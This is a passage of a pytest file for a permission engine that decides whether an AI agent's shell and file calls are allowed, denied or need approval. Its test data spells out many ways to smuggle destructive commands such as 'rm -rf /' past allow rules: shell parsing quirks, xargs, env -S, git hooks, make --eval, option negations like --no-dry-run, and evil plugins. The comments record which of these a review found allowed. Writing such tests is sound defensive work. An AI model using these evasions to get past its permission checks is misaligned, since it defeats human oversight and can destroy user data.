        (["sort", "--o", "x", "y"], "--o"),  # (a one-letter abbreviation: sort writes x)
        (["sort", "-t-", "-k2", "x"], None),  # (a dash inside a cluster is a value, not -o)
        (["rsync", "-e", "ssh", "a", "b"], "-e"),
        (["date", "-Iseconds"], None),  # -I's value is attached: not -s
        (["date", "-d@0", "-u"], None),
        (["date", "-us", "2020-01-01"], "-us"),
        (["date", "-s2020-01-01"], "-s2020-01-01"),
        (["ls", "-exec"], None),
        ([], None),
        # `python -m pytest` is pytest; python running a script is not
        (["python3", "-m", "pytest", "-p", "y"], "-p"), (["python3", "x.py", "a", "-p", "y"], None),
        # the operand written (uniq IN OUT, hostname NAME); make's assignment after a target
        (["uniq", "in", "out"], "out"), (["hostname", "h"], "h"), (["make", "CC=./evil"], "CC=./evil"),
        (["./a=b/make", "all"], None),  # (the program's own path is no assignment)
        (["git", "diff", "--text", "--output=x"], "--output=x"),  # (the scan goes on after --text)
        # curl: -w's format read from a file (@FILE), or one that writes (%output{FILE})
        (["curl", "-w", "@fmt", "u"], "-w"), (["curl", "--write-out", "@f", "u"], "--write-out"),
        (["curl", "-w@f", "u"], "-w@f"), (["curl", "--write-out=@f", "u"], "--write-out=@f"),
        (["curl", "-w%output{f}", "u"], "-w%output{f}"), (["curl", "-w", "%{http_code}", "u"], None),
        (["curl", "u", "-w"], None), (["curl", "-s", "@f"], None), (["curl", "u", "-w", "@f"], "-w"),
    ],
)
def test_dangerous_argument(argv, bad):
    assert dangerous_argument(argv) == bad


def test_dangerous_args_table_is_documented_shape():
    assert set(DANGEROUS_ARGS) >= {"find", "git"}
    assert {"-exec", "-execdir", "-ok", "-delete"} <= set(DANGEROUS_ARGS["find"])
    assert {"-c", "--upload-pack"} <= set(DANGEROUS_ARGS["git"])


# -- examples, calls, hashes -------------------------------------------------------------


def test_check_examples():
    good = parse_rule("execute_command(git log *)", ALLOW, USER, match=["git log", "git log -p"],
                      not_match=["git status", "git log -p | sh", "git  log; rm x"])
    assert check_examples(good) == []
    bad = parse_rule("execute_command(git log *)", ALLOW, USER, match=["git status"],
                     not_match=["git log -1"])
    errors = check_examples(bad)
    assert len(errors) == 2
    assert "'git status' should match but does not" in errors[0]
    assert USER in errors[0] and "execute_command(git log *)" in errors[0]
    assert "'git log -1' should not match but does" in errors[1]
    deny = parse_rule("execute_command(rm *)", DENY, match=["ls; rm -rf /", "sudo rm x"])
    assert check_examples(deny) == []  # deny semantics: any part
    path = parse_rule("read_file(**/.env)", DENY, match=[".env", "a/.ENV"], not_match=[".envrc"])
    assert check_examples(path) == []


@pytest.mark.parametrize(
    ("name", "args", "text"),
    [
        (C, {"command": "git status; rm -rf /", "cwd": "."}, "execute_command(git status; rm -rf /)"),
        ("read_file", {"path": "a (1).txt"}, "read_file(a (1).txt)"),
        ("write_file", {"path": "x", "content": "y"}, "write_file(x)"),
        ("list_directory", {}, "list_directory(.)"),
        (C, {"command": "echo )"}, "execute_command(echo ))"),
    ],
)
def test_format_and_parse_call_round_trip(name, args, text):
    assert format_call(name, args) == text
    back_name, back_args = parse_call(text)
    assert back_name == name
    key = rules.MAIN_ARG[name]
    assert back_args == {key: args.get(key, ".")}


def test_format_call_odd_args():
    assert format_call("read_file", {}) == "read_file()"
    assert format_call("read_file", {"path": 5}) == "read_file(5)"


def test_parse_call_uses_first_open_and_last_close():
    assert parse_call("  execute_command(echo (a) b)\n") == (C, {"command": "echo (a) b"})
    assert parse_call("execute_command(x\ny)") == (C, {"command": "x\ny"})
    for bad in ("git status", "execute_command(x) y", "Bash(ls)", "execute_command(x", "(x)",
                "x\x00(y)"):
        with pytest.raises(RuleError):
            parse_call(bad)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("git status", "expected Tool(argument), e.g. 'execute_command(git status)'; got 'git status'"),
        ("execute_command(x", "expected Tool(argument), e.g. 'execute_command(git status)'; got 'execute_command(x'"),
        (")x(", "expected Tool(argument)"),
        ("(x)", "rule '(x)': unknown tool ''"),
        ("execute_command(x) y", "unexpected text after the closing ')': ' y'"),
        ("execute_command(x)y", "unexpected text after the closing ')': 'y'"),
        ("x\x00(y)", "the call contains a NUL character"),
        (5, "a call must be a string"),
    ],
)
def test_parse_call_errors(text, message):
    with pytest.raises(RuleError) as err:
        parse_call(text)
    assert str(err.value).startswith(message)


def test_a_call_keeps_non_ascii_text():
    assert format_call("read_file", {"path": ["café"]}) == 'read_file(["café"])'
    canon = json.dumps({"args": {"command": "café"}, "name": C}, sort_keys=True, separators=(",", ":"),
                       ensure_ascii=False)
    assert args_hash(C, {"command": "café"}) == hashlib.sha256(canon.encode()).hexdigest()


def test_policy_check_example_from_the_issue():
    name, args = parse_call("execute_command(git status; rm -rf /)")
    d = evaluate(STD, name, args, root=ROOT)
    assert d.decision == DENY and "rm *" in d.who


def test_args_hash():
    h = args_hash(C, {"command": "ls", "cwd": "."})
    assert h == args_hash(C, {"cwd": ".", "command": "ls"})
    assert len(h) == 64 and int(h, 16) >= 0
    canon = json.dumps({"args": {"command": "ls", "cwd": "."}, "name": C}, sort_keys=True,
                       separators=(",", ":"), ensure_ascii=False)
    assert h == hashlib.sha256(canon.encode()).hexdigest()
    assert h != args_hash(C, {"command": "ls ", "cwd": "."})
    assert h != args_hash("read_file", {"command": "ls", "cwd": "."})
    assert len(args_hash(C, {"command": "caf\u00e9 \udc80"})) == 64


def test_module_is_pure():
    src = open(rules.__file__, encoding="utf-8").read()
    for forbidden in ("import urwid", "import subprocess", "open(", "os.stat", "os.path.realpath"):
        assert forbidden not in src


@pytest.mark.parametrize(("command", "simple", "flags"), [
    ("ls \\\n-l", [["ls", "-l"]], {rules.LINE_CONTINUATION}),
    ("ls\\\n -l", [["ls", "-l"]], {rules.LINE_CONTINUATION}),
    ("ls \\\n -l", [["ls", "-l"]], {rules.LINE_CONTINUATION}),  # alone between blanks: no word
    ("ls > \\\n x", [["ls"]], {rules.LINE_CONTINUATION, rules.REDIRECTION}),  # nor before a target
    ("ls >\\\nx", [["ls"]], {rules.LINE_CONTINUATION, rules.REDIRECTION}),
    ("echo a\\\nb", [["echo", "ab"]], {rules.LINE_CONTINUATION}),  # inside a word: joined
    ('echo "a\\\nb"', [["echo", "ab"]], {rules.LINE_CONTINUATION}),  # also in double quotes
    ("ls \\\n-l\nrm \\\n-rf x", [["ls", "-l"], ["rm", "-rf", "x"]], {rules.LINE_CONTINUATION, rules.LIST}),
    ("ls # a note\nls -l", [["ls"], ["ls", "-l"]], {rules.COMMENT, rules.LIST}),
    ("ls # a note", [["ls"]], {rules.COMMENT}),
    ("ls #", [["ls"]], {rules.COMMENT}),
])
def test_line_continuations_and_comments(command, simple, flags):
    a = analyze_command(command)
    assert (a.simple, set(a.flags), a.problems) == (simple, flags, [])


def test_a_command_continued_on_the_next_line_is_still_denied():
    assert evaluate(DENY_RM, C, {"command": "rm \\\n-rf /"}, root=ROOT, mode="unrestricted").decision == DENY
    # the target of a redirection is no argument, also after a line continuation
    deny = [layer(USER, (DENY, "execute_command(rm -rf /)"))]
    assert evaluate(deny, C, {"command": "rm -rf / > \\\n x"}, root=ROOT, mode="unrestricted").decision == DENY


def test_a_stray_closing_parenthesis_ends_the_command_before_it():
    a = analyze_command("ls a) rm x")
    assert a.unparsable and a.problems == ["')' without '('"]
    assert a.simple == [["ls", "a"], ["rm", "x"]]


@pytest.mark.parametrize("command", [
    # bash reads an arithmetic command or an array subscript where sh reads subshells or a
    # here-document; the line after `(( 1 << 2 ))` runs in bash
    "(( 1 << 2 ))\nrm -rf /\n2",
    "if (( 1<<2 )); then :; fi\nrm -rf /\n2",
    "a[1<<2]=x\nrm -rf /\n2]=x",
    "(( 1 #x )); rm -rf /\n))",
    # the value of an option inside a cluster follows the letter that takes it
    "env -iS'rm -rf /'",
    "env -vS'rm -rf /'",
    "tar -cvI'rm -rf /' -f x.tar f",
    "compgen -bC'rm -rf /' x",
    # a wrapper with no command of its own under xargs runs the words read from stdin
    "echo rm -rf / | xargs env",
    "echo rm -rf / | xargs timeout 5",
    "xargs nice <<< 'rm -rf /'",
    # the dynamic loader and capsh run programs
    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
    "capsh -- -c 'rm -rf /'",
    "echo 'rm -rf /' | capsh --",
    # git runs the commands given to bisect run, submodule foreach, filter-branch's filters
    "git bisect run rm -rf /",
    "git submodule foreach --recursive 'rm -rf /'",
    "git filter-branch --tree-filter 'rm -rf /' HEAD",
    "git filter-branch --env-filter='rm -rf /' HEAD",
    # a prompt decodes \NNN before its substitutions run (\140: a backquote)
    "PS4='\\140rm -rf /\\140'; set -x; :",
    "x='\\140rm -rf /\\140'; echo ${x@P}",
])
def test_commands_bash_runs_where_the_reading_differs_still_deny(command):
    """A review's lines (each ran its command in bash; now each is denied)."""
    assert evaluate(DENY_RM, C, {"command": command}, root=ROOT, mode="unrestricted").decision == DENY, command


def test_ordinary_arithmetic_subscripts_and_xargs_still_parse():
    for command in ("(( x + 1 ))", "a[i]=1; b[x+1]=2", "find . | xargs grep foo", "ls | xargs -n1 echo",
                    "git bisect start", "env -i PATH=/bin ls",
                    "a[\\ ]=1", "a[\\;]=1"):  # an escaped blank or ';' ends the word in neither
        assert analyze_command(command).problems == [], command


def test_an_escaped_character_in_a_subscript_is_one_character():
    """`a[\\x;]=1`: the escape covers the `x` only; the `;` ends sh's word, not bash's."""
    assert analyze_command("a[\\x;]=1").problems == ["an array subscript that bash and sh read differently"]
    assert analyze_command("a[\\;x]=1").problems == []


def test_a_backslash_in_backquotes_escapes_only_what_bash_says():
    """Inside backquotes a backslash escapes `$`, a backquote and itself (and `"` inside
    double quotes); before any other character it is text: `printf '\\n'` keeps it, `\\``
    nests a command, and a backquote ended by `\\`` is never closed (bash 5.2)."""
    assert ["printf", "\\n"] in analyze_command("echo `printf '\\n'`").candidates
    assert ["id"] in analyze_command("echo `echo \\`id\\``").candidates
    assert ["echo", "a"] in analyze_command('echo "`echo \\"a\\"`"').candidates
    # the outer backquote and the inner `a`` it holds
    assert analyze_command("echo `a\\`").problems == ["unterminated backquote"] * 2


def test_a_backquote_in_a_here_document_is_read_as_bash_reads_it_too():
    """In a here-document bash keeps `\\"` inside backquotes (dash and double quotes make it
    `"`): `echo \\"; rm -rf /; echo \\"` runs rm in bash only, here, and in neither shell
    inside double quotes."""
    body = 'echo \\"; rm -rf /; echo \\"'
    assert analyze_command(f"cat <<E\n`{body}`\nE").candidates == [
        ["cat"], ["echo", '"'], ["rm", "-rf", "/"],  # bash's reading
        ["echo", "; rm -rf /; echo "],  # dash's
    ]
    assert ["rm", "-rf", "/"] not in analyze_command(f'echo "`{body}`"').candidates


def test_a_substitution_keeps_the_here_documents_pending_before_it():
    """`cat <<E $(echo x)`: the body after the line is still cat's, not commands."""
    a = analyze_command("cat <<E $(echo x)\nrm -rf /\nE")
    assert (a.simple, a.problems) == ([["echo", "x"], ["cat", "$(echo x)"]], [])


def test_a_delimiter_with_a_dollar_of_text_is_unquoted():
    """`<<E$`, `<<E$[1]`: no quote in the delimiter, so the body expands (`$(...)` runs);
    `<<$"E"` is quoted."""
    for delimiter in ("E$", "E$[1]"):
        a = analyze_command(f"cat <<{delimiter}\n$(rm -rf /)\n{delimiter}")
        assert ["rm", "-rf", "/"] in a.candidates, delimiter
    # a quoted delimiter, `$"..."` and `$'...'` included: the body is text
    for command in ("cat <<'E$'\n$(rm -rf /)\nE$", 'cat <<$"E"\n$(rm -rf /)\nE', "cat <<$'E'\n$(rm -rf /)\nE"):
        assert analyze_command(command).candidates == [["cat"]], command


def test_old_arithmetic_is_a_dynamic_word():
    """`$[1]` is evaluated at run time: the word is not its text (a `$` before nothing is)."""
    assert analyze_command("echo $[1] x$").dynamic_words == [[False, True, False]]


@pytest.mark.parametrize("command, problems", [
    ("echo $((1)", ["'(' is never closed", "sh and bash end this '$((' at different places"]),
    ("echo $(((1)))", []),  # dash counts the inner "(" as bash does
    ("echo $((1\\)))", []),  # an escaped ")" closes nothing in either shell
    ("echo $(( $x + 1 ))", []),
    ("echo $(( {)) }", []),  # a "{" is a "${" only after a "$"
    ("echo $(( $'))' ))", ["sh and bash end this '$((' at different places"]),  # dash: no $'...'
])
def test_where_sh_and_bash_end_an_arithmetic_expansion(command, problems):
    assert analyze_command(command).problems == problems


def test_the_commands_after_bash_old_arithmetic_are_still_read():
    a = analyze_command("echo $[''] ; rm x")
    assert a.unparsable and ["rm", "x"] in a.candidates


@pytest.mark.parametrize(("one", "opening", "inside", "closing"), [
    ("$((1))", "$((", "1", "))"), ("$[1]", "$[", "1", "]"), ("${x}", "${x:-", "", "}"),
])
def test_expansions_one_after_another_are_no_nesting(one, opening, inside, closing):
    """Each expansion closed before the next opens counts one level, not one more each time;
    the bound still holds after them."""
    assert "nested too deeply" not in analyze_command("echo" + f" {one}" * 40).problems
    after = "echo " + one * 3
    assert "nested too deeply" not in analyze_command(after + opening * 31 + inside + closing * 31).problems
    assert analyze_command(after + opening * 32 + inside + closing * 32).problems[-1] == "nested too deeply"
    # so in the probes that find where an outer `$((` ends
    assert analyze_command("echo $(( " + " + ".join([one] * 40) + " ))").problems == (
        ["'$[' (bash's arithmetic; sh reads it as text)"] * 40 if one == "$[1]" else [])


def test_bash_arithmetic_read_as_a_command_substitution_is_one():
    assert rules.SUBSTITUTION in analyze_command("echo $((echo x) )").flags


def test_a_command_substitution_read_as_bash_reads_it_inside_arithmetic():
    """`$(( $((echo 1; echo ')' >x) ) + 1 ))` is 2 in bash: the inner `$((...) )` is a command
    substitution, read whole (its quoted `)` included) where the outer one's end is found."""
    for command, inner in (("echo $(( $((echo 1) ) + 1 ))", [["echo", "1"]]),
                           ("echo $(( $((echo 1; echo ')' >/dev/null) ) + 1 ))", [["echo", "1"], ["echo", ")"]])):
        assert analyze_command(command).candidates == [*inner, ["echo", command[5:]]], command


def test_the_text_read_in_arithmetic_is_what_is_between_the_parentheses():
    """bash expands the text of `((...))` and `$((...))` as double-quoted text: a backquote
    in it reads to the end of that text, never into the `))` (nor past it: `#x` after the
    command is a comment, not part of the text)."""
    for command in ("(( '`' ))", "echo $(( '`' ))"):
        a = analyze_command(command)
        assert [" "] in a.candidates and "unterminated backquote" in a.problems, command
    assert analyze_command("((1)) #x").problems == []
    assert analyze_command("echo $((1))$(id)").problems == []  # a substitution right after is whole


def test_old_arithmetic_ends_at_its_own_bracket():
    """`$[\\x]` ends at the `]` after the escape: what follows is read as commands; the text
    read for substitutions is exactly what is between the brackets."""
    assert analyze_command("echo $[\\x] ; rm x").simple == [["echo", "$[\\x]"], ["rm", "x"]]
    for command in ("echo $[$(id)]", "echo $[1]`id`"):
        assert analyze_command(command).problems == ["'$[' (bash's arithmetic; sh reads it as text)"], command
    assert ["id"] in analyze_command("echo $[`id]").candidates  # the `]` is not the backquote's


def test_a_pattern_given_to_git_ls_files_x_is_no_command():
    """`git ls-files -x '*.o'` excludes a pattern: its value is not read as a command (that
    made the call opaque); `git rebase -x CMD` runs one."""
    assert not analyze_command("git ls-files -x '*.o'").opaque
    assert ["rm", "-rf", "x"] in analyze_command("git rebase -x 'rm -rf x' main").candidates


# A review ran each of these with bash (found allowed, and it ran a program or wrote a file)
ALLOWED_BUT_DOES_MORE = [
    ("make *", "make --eval='x:=$(shell touch M)'"),
    ("make *", "make -E '$(shell touch M)'"),
    ("make test *", "make test 'X:=$(shell touch M)'"),  # an assignment runs as make reads it
    ("make test *", "make test CC=touch"),  # or overrides what a recipe runs
    ("make *", "make -f - test"),
    ("make *", "make -f/dev/stdin test"),
    ("make *", "make --file=../other/Makefile test"),
    ("make *", "make -kf /tmp/evil.mk"),
    ("gmake *", "gmake --ev='x:=$(shell touch M)'"),
    ("wget *", "wget -q -e use_askpass=./evil.sh http://127.0.0.1:9/x"),
    ("wget *", "wget -q --config=./w.rc http://127.0.0.1:9/x"),
    ("wget *", "wget --execute=logfile=M http://127.0.0.1:9/x"),
    ("npm test *", "npm test '--node-options=--import=data:text/javascript,1'"),
    ("npm ls *", "npm ls --logs-dir=./L"),
    ("cargo test *", "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=[\"sh\"]'"),
    ("cargo tree *", "cargo tree --config build.rustc-wrapper=./evil.sh"),
    ("curl *", "curl -s -T f file:///tmp/M"),
    ("curl *", "curl -s --alt-svc M file:///etc/hostname"),
    ("curl *", "curl -s --hsts M https://example.invalid/"),
    ("curl *", "curl -s --etag-save M https://example.invalid/"),
    ("curl *", "curl -s -w '%output{M}x' https://example.invalid/"),
    ("curl *", "curl -s -w @fmt https://example.invalid/"),
    ("pytest *", "pytest --basetemp=/home/u/important"),
    ("pytest *", "pytest --junitxml=/tmp/elsewhere.xml"),
    ("py.test *", "py.test --basetemp=/home/u/important"),
    ("pytest *", "pytest -p evil_plugin"),
    ("python -m pytest *", "python -m pytest --basetemp=/srv/data"),
    ("patch --dry-run *", "patch --dry-run -i p.diff -o victim f"),
    ("yq *", "yq -i -y .a=2 f.yaml"),
    ("yq *", "yq --in -y .a=2 f.yaml"),
    ("tar -tf *", "tar -tf a.tar --volno-file=M"),
    ("file *", "file -C -m mg"),
    ("npm pack --dry-run *", "npm pack --dry-run"),  # runs the package's prepack script
    ("pip install --dry-run *", "pip install --dry-run --no-index ./pkg"),  # runs its setup.py
    ("xxd *", "xxd in -M"),  # the second operand, a name with a dash, is written
    ("uniq *", "uniq -D in -- -M"),
]


@pytest.mark.parametrize(("rule", "command"), ALLOWED_BUT_DOES_MORE)
def test_an_allow_rule_does_not_allow_what_does_more_than_its_program_reading(rule, command):
    allow = [layer(USER, (ALLOW, f"execute_command({rule})"))]
    assert evaluate(allow, C, {"command": command}, root=ROOT, mode="ask").decision == ASK


@pytest.mark.parametrize(("rule", "command", "allowed"), [
    ("make test *", "make test", True), ("make *", "make -j4 all", True), ("make *", "make -C sub test", True),
    ("make *", "make -f Makefile.ci test", True), ("make *", "make --file=ci/build.mk", True),
    ("make *", "make -kfMakefile.ci", True),
    ("pytest *", "pytest -q -x tests", True), ("python -m pytest *", "python -m pytest -k name", True),
    ("curl *", "curl -s -w '%{http_code}' https://example.invalid/", True),
    ("xxd *", "xxd -l16 in", True), ("uniq *", "uniq -c in", True), ("wget *", "wget -q -O- https://x", False),
    ("cargo test *", "cargo test --release", True), ("npm test *", "npm test -- --watch=false", True),
    # no negation: `--` ends the options, `--no-` alone is ambiguous (git fails), `-` is a file
    ("git commit --no-verify *", "git commit --no-verify -m x -- f", True),
    ("git clean -n *", "git clean -n --no- -f", True), ("unzip -l *", "unzip -l a.zip -", True),
])
def test_plain_uses_of_those_programs_are_still_allowed(rule, command, allowed):
    allow = [layer(USER, (ALLOW, f"execute_command({rule})"))]
    assert (evaluate(allow, C, {"command": command}, root=ROOT, mode="ask").decision == ALLOW) == allowed


@pytest.mark.parametrize(("rule", "command", "undone"), [
    ("git clean -n *", "git clean -n --no-dry-run -f", "--no-dry-run"),
    ("git clean --dry-run *", "git clean --dry-run --no-dry -f", "--no-dry"),  # an abbreviation
    ("git rm -n *", "git rm -n --no-dry-run f", "--no-dry-run"),
    ("git commit --dry-run *", "git commit --dry-run --no-dry-run -qm x", "--no-dry-run"),
    ("git apply --stat *", "git apply --stat --apply p.diff", "--apply"),
    ("git apply --check *", "git apply --check --no-check p.diff", "--no-check"),
    ("kubectl apply --dry-run=client *", "kubectl apply --dry-run=client -f x.yaml --dry-run=none",
     "--dry-run=none"),  # the last one counts
    ("docker run --rm *", "docker run --rm --rm=false img", "--rm=false"),
    ("unzip -l *", "unzip -l --l a.zip", "--l"),
    ("unzip -l *", "unzip -l -l- a.zip", "-l-"),
    ("git diff --no-ext-diff *", "git diff --no-ext-diff --ext-diff", "--ext-diff"),
    # the positive form, abbreviated: `--verif` is --verify (git runs the commit hooks again)
    ("git commit --no-verify *", "git commit --no-verify --verif -m x", "--verif"),
    ("git commit --no-verify *", "git commit --no-verify --ve -m x", "--ve"),
    ("git commit --no-verify *", "git commit --no-verify --v -m x", "--v"),  # (ambiguous: git fails)
    ("git diff --no-color *", "git diff --no-color --color", "--color"),
    ("git clean --dry-run *", "git clean --dry-run --no-d -f", "--no-d"),
    ("kubectl apply --dry-run=client *", "kubectl apply --dry-run=client --no-dry-run -f x.yaml", "--no-dry-run"),
])
def test_a_word_that_undoes_an_option_of_the_allow_rule_asks(rule, command, undone):
    """A review: `git clean -n --no-dry-run -f` removed files under `git clean -n *`."""
    allow = [layer(USER, (ALLOW, f"execute_command({rule})"))]
    decision = evaluate(allow, C, {"command": command}, root=ROOT, mode="ask")
    assert decision.decision == ASK and undone in decision.reason
    plain = command.split(undone)[0].strip()
    assert evaluate(allow, C, {"command": plain}, root=ROOT, mode="ask").decision == ALLOW


def test_a_negation_anywhere_undoes_the_rule_even_first():
    """The undoing word is looked for in every argument, the first one too (a rule whose
    pattern starts with `*` lets it stand there), whatever comes after it (fail closed)."""
    allow = [layer(USER, (ALLOW, "execute_command(rsync * --dry-run *)"))]
    decision = evaluate(allow, C, {"command": "rsync --no-dry-run --dry-run a b"}, root=ROOT, mode="ask")
    assert decision.decision == ASK and decision.who == '"--no-dry-run" undoes "--dry-run"'
    assert evaluate(allow, C, {"command": "rsync -a --dry-run a b"}, root=ROOT, mode="ask").decision == ALLOW


def test_the_analysis_memo_is_exact():
    """analyze_command keeps the last text's Analysis: over a random sequence of texts with
    repeats (and the same text built anew, not the same object), each answer equals the
    uncached analysis of that text."""
    texts = ["ls", "git status", "ls; rm -rf /", "echo $(rm x)", "a=1 b", "ls", "'", ""]
    rng = random.Random(7)
    for _ in range(300):
        text = "".join(list(rng.choice(texts)))  # a new str object with the same text
        got = analyze_command(text)
        assert got == rules._analyze_uncached(text) and got.command == text


def test_rules_and_decisions_are_never_changed_once_made():
    """The agent's thread evaluates the rules that the UI lists (/permissions) and hands
    decisions to the journal: neither can be changed after it is made."""
    import dataclasses

    rule = parse_rule("execute_command(git status)", ALLOW, USER)
    decision = evaluate([layer(USER, (ALLOW, "execute_command(git status)"))], C, {"command": "git status"},
                        root=ROOT, mode="ask")
    assert decision.decision == ALLOW and decision.rule == rule
    for value, name in ((rule, "decision"), (decision, "decision"), (decision, "rule")):
        with pytest.raises(dataclasses.FrozenInstanceError):
            setattr(value, name, None)


@pytest.mark.parametrize(("letters", "unparsable"), [(24, False), (25, True)])
def test_an_option_cluster_is_read_for_attached_values_up_to_24_letters(letters, unparsable):
    """Each tail of a cluster may be a value (`env -iS'rm x'`) and is analysed: a cluster
    longer than 24 letters is not read (each tail would cost a whole analysis)."""
    a = analyze_command("env -" + "i" * letters + " ls")
    assert a.unparsable is unparsable and a.simple[0][:1] == ["env"]


@pytest.mark.parametrize(("command", "candidate"), [
    ("env -Sw", ["w"]),  # a one-letter command attached to -S
    ("env --split-string='rm a=b'", ["rm", "a=b"]),  # the value is all after the first `=`
    ("man --pager='rm a=b' ls", ["rm", "a=b"]),
    ("man -Pw ls", ["w"]),
])
def test_an_option_value_is_read_whole(command, candidate):
    """An option's value that a program runs (`env -S`, `man -P`): attached to a short
    option, or after `=` (an `=` inside the value is part of it)."""
    assert candidate in analyze_command(command).candidates


@pytest.mark.parametrize("command", [
    "scp -o ProxyCommand='rm a=b' a:b c",  # an option whose value is `NAME=COMMAND`
    "export PROMPT_COMMAND='rm a=b'",  # a value that may run later
    "fc -e 'rm a=b' 5", "fc -l5e 'rm a=b'",  # the editor, run on the history lines
    "git fetch --upload-pack 'rm a=b'",  # (fetch alone fetches from origin)
    "git filter-branch --tree-filter 'rm a=b'", "git -c 'alias.x=!rm a=b'",  # the value last
    "git bisect run rm a=b", "git submodule foreach 'rm a=b'",
    "gdb -batch -ex 'shell rm a=b' prog",  # a debugger command that runs the shell
    "gdb -batch -ex 'pipe bt | rm a=b' prog", "gdb -batch -ex '||rm a=b' prog",  # (|| repeats the last)
    "gdb -batch -ex '|bt|rm a=b|wc -l' prog",
])
def test_a_command_another_program_runs_is_a_candidate(command):
    """The command line a program is told to run (an option's value, a subcommand's words, a
    debugger command) is judged as a command of its own."""
    assert ["rm", "a=b"] in analyze_command(command).candidates


@pytest.mark.parametrize(("command", "candidates"), [
    ("su -cw", [["su", "-cw"], ["-cw"], ["w"]]),  # -c's value attached: not `cw`
    ("git clone --upload-pack='rm a' x", [["git", "clone", "--upload-pack=rm a", "x"], ["rm", "a"], ["x"]]),
    ("git bisect good v1", [["git", "bisect", "good", "v1"]]),  # only `bisect run` runs its words
    ("git submodule update x", [["git", "submodule", "update", "x"]]),  # only `foreach` does
    ("gdb -batch -ex '|bt|rm a|wc -l' x", [  # gdb runs all after the second `|` (bt is gdb's)
        ["gdb", "-batch", "-ex", "|bt|rm a|wc -l", "x"], ["-batch", "-ex", "|bt|rm a|wc -l", "x"],
        ["-ex", "|bt|rm a|wc -l", "x"], ["|bt|rm a|wc -l", "x"], ["x"], ["rm", "a"], ["wc", "-l"]]),
    ("gdb -batch -ex 'echo a|b' x", [  # a `|` in another debugger command is no pipe
        ["gdb", "-batch", "-ex", "echo a|b", "x"], ["-batch", "-ex", "echo a|b", "x"],
        ["-ex", "echo a|b", "x"], ["echo a|b", "x"], ["x"]]),
    # only a short option has a value attached to its letter (`-Srm`), not a long one
    ("env --ignore-environment ls", [["env", "--ignore-environment", "ls"], ["--ignore-environment", "ls"],
                                     ["ls"]]),
    ("man --pager less ls", [["man", "--pager", "less", "ls"], ["less"]]),
])
def test_only_what_a_program_runs_is_a_candidate(command, candidates):
    """Precision: words a program does not run are no candidates (an allow rule would have to
    cover each one, and the command would ask for nothing)."""
    assert analyze_command(command).candidates == candidates


@pytest.mark.parametrize(("command", "opaque"), [
    ("gdb -q prog", False), ("gdb -batch -ex bt prog", True),  # debugger commands: not read
    ("gdb -batch -ex", True), ("gdb -batch -ex '|bt' prog", True),  # (gdb fails): no crash
    ("fc -l sed", False), ("fc -l -5", False),  # a listing runs nothing (`sed` is a prefix)
    ("fc -l -e1", True),  # -e names an editor: fail closed
])
def test_gdb_commands_and_fc_are_opaque(command, opaque):
    assert analyze_command(command).deeply_opaque is opaque
    d = evaluate(DENY_RM, C, {"command": command}, root=ROOT, mode="unrestricted").decision
    assert d == (ASK if opaque else ALLOW)  # a deny rule might match what cannot be read


@pytest.mark.parametrize(("command", "simple", "problems", "flags"), [
    # a "(" where the case's state has no step for it: a problem, not a crash
    ("case (x) in x) echo ;; esac", [["x"], ["x"], ["echo"]],
     ["'(' inside a 'case' pattern or before its 'in'", "')' without '('"], {rules.COMPOUND, rules.SUBSHELL}),
    # the inner case's ";;" ends the inner item, not the outer one's
    ("case a in x) case b in y) echo in ;; esac ;; z) rm -rf / ;; esac", [["echo", "in"], ["rm", "-rf", "/"]],
     [], {rules.COMPOUND, rules.LIST}),
    # bash reads a case after `time` or `function f`, dash reads words
    ("time case x in x) echo ;; esac", [["x", "in", "x"], ["echo"]],
     ["'case' after 'time' (sh and bash read it differently)", "')' without '('"], {rules.COMPOUND}),
    ("function f case x in x) echo ;; esac", [["f", "case", "x", "in", "x"], ["echo"]],
     ["'case' after 'function' (sh and bash read it differently)", "')' without '('"], {rules.COMPOUND}),
    ("time if true; then :; fi", [["true"], [":"]], [], {rules.COMPOUND}),
    ("case x in x) echo ;; esac", [["echo"]], [], {rules.COMPOUND}),
    ("! case x in x) rm -rf / ;; esac", [["rm", "-rf", "/"]], [], {rules.COMPOUND}),
    # the reserved words before a case are a command of their own: a `time` in its body
    # starts the next one
    ("! case a in a) time case x in x) ;; esac;; esac", [["x", "in", "x"]],
     ["'case' after 'time' (sh and bash read it differently)", "')' without '('"], {rules.COMPOUND}),
    # no command starts right after `esac` (both shells reject a `case` there)
    ("case x in esac case y in y) rm x;; esac", [["y", "in", "y"], ["rm", "x"]], ["')' without '('"],
     {rules.COMPOUND}),
])
def test_case_statements_are_read_as_bash_and_dash_read_them(command, simple, problems, flags):
    a = analyze_command(command)
    assert (a.simple, a.problems) == (simple, problems)
    assert a.flags >= flags


@pytest.mark.parametrize(("command", "simple"), [
    # bash's `time` takes one unquoted -p, then one --; anything else is the command
    ("time -p", []), ("time --", []), ("time -p -- -p x", [["-p", "x"]]),
    ("time -p -p x", [["-p", "x"]]), ("time -- -p x", [["-p", "x"]]),
    ("time '-p' x", [["-p", "x"]]), ("time \\-p x", [["-p", "x"]]), ("time -p time -p x", [["x"]]),
    ("x=1 time -p x", [["time", "-p", "x"]]),  # not a keyword after an assignment
    ("command -p", [["command", "-p"]]), ("builtin --", [["builtin", "--"]]),
])
def test_time_and_command_prefixes_are_read_as_bash_reads_them(command, simple):
    assert analyze_command(command).simple == simple


def test_dash_runs_the_time_program_with_its_options(tmp_path):
    """The dash-time-program rows of SHELLS_RUN_IT, run: dash (Debian's /bin/sh) runs
    /usr/bin/time, which runs the command after its options (a stand-in rm on PATH)."""
    import os
    import shutil
    import subprocess

    dash, gnu_time = shutil.which("dash"), shutil.which("time", path="/usr/bin:/bin")
    if not dash or not gnu_time:
        pytest.skip("needs dash and a time program")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    marker = tmp_path / "ran"
    (bin_dir / "rm").write_text(f"#!/bin/sh\necho \"$*\" >> {marker}\n")
    (bin_dir / "rm").chmod(0o755)
    rows = [(i, c) for i, c in SHELLS_RUN_IT if i.startswith(("dash-time-program", "time-program"))]
    assert len(rows) == 6  # the rows this test runs are still there
    for ident, command in rows:
        marker.unlink(missing_ok=True)
        line = command.replace("rm -rf /", "rm -rf /nonexistent-marker")
        subprocess.run([dash, "-c", line], env={**os.environ, "PATH": f"{bin_dir}:/usr/bin:/bin"},
                       capture_output=True, timeout=30, check=False)
        assert marker.read_text() == "-rf /nonexistent-marker\n", ident


@pytest.mark.parametrize(("argv", "k", "entry", "here"), [
